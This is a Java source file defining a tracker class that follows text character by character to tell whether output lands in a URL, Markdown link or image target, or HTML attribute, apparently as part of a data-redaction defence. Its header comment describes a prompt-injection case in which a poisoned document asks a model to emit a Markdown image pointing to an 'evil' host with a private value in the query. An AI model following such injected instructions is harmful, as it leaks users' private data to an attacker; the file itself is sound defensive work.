package io.aegis.kernel;

/**
 * Follows a text character by character and knows whether the next one would stand where a reader's program may send it somewhere: in a URL, in the
 * target of a Markdown link or image, in the attribute of an HTML tag.
 *
 * <p>When in doubt, it does. A poisoned document can ask a model to end with {@code ![](https://evil/?q=<EMAIL_ADDRESS_...>)}; a value restored there
 * would leave with the next image that a client draws.
 *
 * <p>Used by one thread at a time.
 */
final class Surroundings {
    /** As much of the current word as is needed to see a scheme in it. */
    private static final int WORD_KEPT = 16;

    private final StringBuilder word = new StringBuilder(WORD_KEPT);
    private boolean wordIsUrl;
    private int linkDepth;
    private boolean afterLabel;
    private boolean inDefinition;
    private boolean maybeDefinition = true;
    private boolean labelOpen;
    private Tag tag = Tag.NONE;
    private boolean blankLine = true;

    private enum Tag {
        NONE,
        OPENED,
        NAMED,
        ASSIGNED
    }

    /** Whether the next character would stand in a place that sends. */
    boolean sends() {
        return wordIsUrl || linkDepth > 0 || inDefinition || tag == Tag.ASSIGNED;
    }

    void follow(CharSequence text, int from, int to) {
        for (int at = from; at < to; at++) {
            follow(text.charAt(at));
        }
    }

    private void follow(char character) {
        followTag(character);
        followLink(character);
        followDefinition(character);
        followWord(character);
        blankLine = character == '\n' || (blankLine && Character.isWhitespace(character));
    }

    private void followWord(char character) {
        if (Character.isWhitespace(character) || character == '<' || character == '>') {
            word.setLength(0);
            wordIsUrl = false;
            return;
        }
        if (wordIsUrl) {
            return;
        }
        if (word.length() == WORD_KEPT) {
            word.deleteCharAt(0);
        }
        word.append(Character.toLowerCase(character));
        wordIsUrl = endsLikeUrl();
    }

    private boolean endsLikeUrl() {
        return switch (word.charAt(word.length() - 1)) {
            case '/' -> ends("//") || ends(":/");
            case '\\' -> ends(":\\");
            case '.' -> ends("www.");
            case ':' -> ends("mailto:") || ends("data:") || ends("javascript:") || ends("tel:") || ends("xmpp:");
            default -> false;
        };
    }

    private boolean ends(String suffix) {
        int from = word.length() - suffix.length();
        return from >= 0 && word.indexOf(suffix, from) == from;
    }

    /** {@code [label](target)}: everything from the opening parenthesis to its match. */
    private void followLink(char character) {
        if (linkDepth > 0) {
            if (character == '(') {
                linkDepth++;
            } else if (character == ')') {
                linkDepth--;
            } else if (character == '\n' && blankLine) {
                linkDepth = 0;
            }
        } else if (afterLabel && character == '(') {
            linkDepth = 1;
        }
        afterLabel = character == ']';
    }

    /** {@code [label]: target} at the start of a line, to the end of that line. */
    private void followDefinition(char character) {
        if (character == '\n') {
            maybeDefinition = true;
            labelOpen = false;
            inDefinition = false;
        } else if (maybeDefinition && !labelOpen) {
            labelOpen = character == '[';
            maybeDefinition = labelOpen || Character.isWhitespace(character) || character == '>';
        } else if (labelOpen && character == ':' && endsWithLabel()) {
            inDefinition = true;
        }
    }

    private boolean endsWithLabel() {
        return !word.isEmpty() && word.charAt(word.length() - 1) == ']';
    }

    private void followTag(char character) {
        tag = switch (tag) {
            case NONE -> character == '<' ? Tag.OPENED : Tag.NONE;
            case OPENED -> Character.isLetter(character) || character == '/' ? Tag.NAMED : opened(character);
            case NAMED -> character == '=' ? Tag.ASSIGNED : closed(character, Tag.NAMED);
            case ASSIGNED -> closed(character, Tag.ASSIGNED);
        };
    }

    private static Tag opened(char character) {
        return character == '<' ? Tag.OPENED : Tag.NONE;
    }

    private static Tag closed(char character, Tag stay) {
        return character == '>' ? Tag.NONE : stay;
    }
}
